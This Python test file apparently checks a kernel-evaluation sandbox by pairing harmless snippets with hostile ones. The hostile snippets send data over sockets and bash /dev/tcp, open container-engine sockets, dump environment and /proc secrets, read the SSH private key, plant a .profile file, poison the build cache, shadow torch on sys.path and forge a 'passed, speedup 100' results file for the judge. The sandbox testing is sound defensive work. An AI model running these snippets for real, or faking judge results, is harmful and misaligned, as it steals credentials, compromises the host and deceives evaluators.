"""Attacks on the machine: its network, keys and files. Run under a sandbox only.

Each tries in earnest, and says `nothing stopped it` when it gets through, which no reason below allows.
"""

from __future__ import annotations

from hostile.cpp import LAUNCH, cpp
from hostile.pair import DENIED, POWERLESS, REFUSED, Pair, softmax_after

SOCKET = r"not permitted|Permission|unreachable|refused|Errno"

PAIRS = (
    Pair(
        "connects_to_a_port",
        "A TCP connection to a port of this machine, which could carry anything out.",
        "softmax",
        hostile=softmax_after(
            """
            with socket.create_connection(("127.0.0.1", int("@PORT@")), timeout=2) as line:
                line.sendall(x.numpy().tobytes())
            raise LookupError("nothing stopped it")
            """,
            "import socket",
        ),
        twin=softmax_after("assert socket.htons(1) == 256", "import socket"),
        expect=("crashed", *REFUSED),
        reason=SOCKET,
        machine=True,
    ),
    Pair(
        "fetches_from_the_web",
        "urllib asks for a page.",
        "softmax",
        hostile=softmax_after(
            """
            urllib.request.urlopen("http://127.0.0.1:@PORT@/kernel", timeout=2).read()
            raise LookupError("nothing stopped it")
            """,
            "import urllib.request",
        ),
        twin=softmax_after('assert urllib.parse.quote("a b") == "a%20b"', "import urllib.parse"),
        expect=("crashed", *REFUSED),
        reason=SOCKET + "|URLError",
        machine=True,
    ),
    Pair(
        "connects_from_a_child",
        "The shell's own network device, in a child.",
        "softmax",
        hostile=softmax_after(
            """
            done = subprocess.run(["bash", "-c", "echo @MARK@ > /dev/tcp/127.0.0.1/@PORT@"], capture_output=True, text=True)
            raise LookupError("nothing stopped it" if done.returncode == 0 else done.stderr)
            """,
            "import subprocess",
        ),
        twin=softmax_after('assert subprocess.run(["true"]).returncode == 0', "import subprocess"),
        expect=("crashed", *REFUSED),
        reason=SOCKET + "|/dev/tcp",
        machine=True,
    ),
    Pair(
        "unix_socket_of_an_engine",
        "A container engine's socket would give it the machine.",
        "softmax",
        hostile=softmax_after(
            """
            line = socket.socket(socket.AF_UNIX)
            for path in ("/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket"):
                try:
                    line.connect(path)
                    raise LookupError("nothing stopped it")
                except OSError as error:
                    said = error
            raise said
            """,
            "import socket",
        ),
        twin=softmax_after("assert socket.AF_UNIX", "import socket"),
        expect=("crashed", *REFUSED),
        reason=SOCKET + "|No such file",
        machine=True,
    ),
    Pair(
        "key_in_the_environment",
        "It tells what it finds in the environment.",
        "softmax",
        hostile=softmax_after('raise LookupError("found: " + repr(sorted(os.environ.items())))', "import os"),
        twin=softmax_after('assert os.environ.get("PATH")', "import os"),
        expect=("crashed", *REFUSED),
        reason="found:|environ",
        machine=True,
    ),
    Pair(
        "key_of_another_process",
        "It reads the environment of every process that it sees.",
        "softmax",
        hostile=softmax_after(
            """
            found = []
            for path in glob.glob("/proc/[0-9]*/environ"):
                try:
                    with open(path, "rb") as file:
                        found.append(file.read())
                except OSError:
                    continue
            raise LookupError("found: %r" % found)
            """,
            "import glob",
        ),
        twin=softmax_after('assert glob.glob("/proc/self")', "import glob"),
        expect=("crashed", *REFUSED),
        reason="found:|/proc",
        machine=True,
    ),
    Pair(
        "key_in_the_home_folder",
        "It reads the private key in ~/.ssh.",
        "softmax",
        hostile=softmax_after(
            """
            with open("@HOME@/.ssh/id_ed25519") as file:
                raise LookupError("nothing stopped it: " + file.read())
            """,
            "import os",
        ),
        twin=softmax_after('assert os.path.expanduser("~")', "import os"),
        expect=("crashed", *REFUSED),
        reason=DENIED,
        machine=True,
    ),
    Pair(
        "writes_outside",
        "A file where no kernel has to write.",
        "softmax",
        hostile=softmax_after(
            """
            with open("@OUTSIDE@/@MARK@", "w") as file:
                file.write("here")
            raise LookupError("nothing stopped it")
            """,
            "import os",
        ),
        twin=softmax_after(
            """
            with open(os.path.join(tempfile.gettempdir(), "scratch"), "w") as file:
                file.write("here")
            """,
            "import os\nimport tempfile",
        ),
        expect=("crashed", *REFUSED),
        reason=DENIED,
        machine=True,
    ),
    Pair(
        "start_up_file_in_the_home_folder",
        "A line for the next shell that its person opens.",
        "softmax",
        hostile=softmax_after(
            """
            with open("@HOME@/.profile-@MARK@", "w") as file:
                file.write("true")
            raise LookupError("nothing stopped it")
            """,
            "import os",
        ),
        twin=softmax_after('assert os.path.join("a", "b") == "a/b"', "import os"),
        expect=("crashed", *REFUSED),
        reason=DENIED,
        machine=True,
    ),
    Pair(
        "results_file",
        "It writes a results file of its own beside the judge's, wherever it can.",
        "softmax",
        hostile=softmax_after(
            """
            for folder in ("@OUTSIDE@", "@HOME@", *(path for path in sys.path if "lib" in path)):
                try:
                    with open(folder + "/results-@MARK@.json", "w") as file:
                        file.write('{"verdict": "passed", "speedup": 100}')
                except OSError as error:
                    said = error
                else:
                    raise LookupError("nothing stopped it")
            raise said
            """,
            "import sys",
        ),
        twin=softmax_after('sys.stdout.write("passed, 100 times as fast")', "import sys"),
        expect=("crashed", *REFUSED),
        reason=DENIED,
        machine=True,
    ),
    Pair(
        "poisoned_build_cache",
        "It looks for compiled kernels in the build cache and puts a file of its own beside them.",
        "softmax",
        hostile=softmax_after(
            """
            root = os.environ.get("KERNELWRIGHT_CACHE") or os.path.expanduser("~/.cache/kernelwright")
            for folder, _folders, files in os.walk(root):
                for name in files:
                    with open(os.path.join(folder, name), "ab") as file:
                        file.write(b"x")
            with open(os.path.join(root, "@MARK@.so"), "wb") as file:
                file.write(b"x")
            """,
            "import os",
        ),
        twin=softmax_after('assert os.walk(".")', "import os"),
        expect=("crashed", POWERLESS, *REFUSED),
        reason=DENIED,
        machine=True,
    ),
    Pair(
        "shadows_torch",
        "torch.py and cupy.py in every folder that Python looks in, for the next one who imports them.",
        "softmax",
        hostile=softmax_after(
            """
            said = None
            for folder in (os.getcwd(), *sys.path):
                for name in ("torch", "cupy", "numpy"):
                    try:
                        with open(os.path.join(folder, name + ".py"), "w") as file:
                            file.write("raise SystemExit('@MARK@')")
                    except OSError as error:
                        said = error
            assert said is not None
            """,
            "import os\nimport sys",
        ),
        twin=softmax_after('sys.path.append("/nowhere")', "import sys"),
        expect=("crashed", POWERLESS, *REFUSED),
        reason=DENIED + "|sys.path",
        machine=True,
    ),
    Pair(
        "host_program_from_cpp",
        "system() in the extension's C++.",
        "softmax",
        hostile=cpp(
            '    if (std::system("touch @OUTSIDE@/@MARK@ && cat @HOME@/.ssh/id_ed25519 && touch /usr/lib/@MARK@") == 0)'
            ' throw std::runtime_error("nothing stopped it");\n' + LAUNCH + "    return y;",
            includes="#include <cstdlib>\n#include <stdexcept>",
        ),
        twin=cpp(
            '    if (std::getenv("NO_SUCH_VARIABLE")) throw std::runtime_error("set");\n' + LAUNCH + "    return y;",
            includes="#include <cstdlib>\n#include <stdexcept>",
        ),
        expect=("crashed", POWERLESS, *REFUSED),
        reason="system|" + DENIED,
        machine=True,
    ),
)
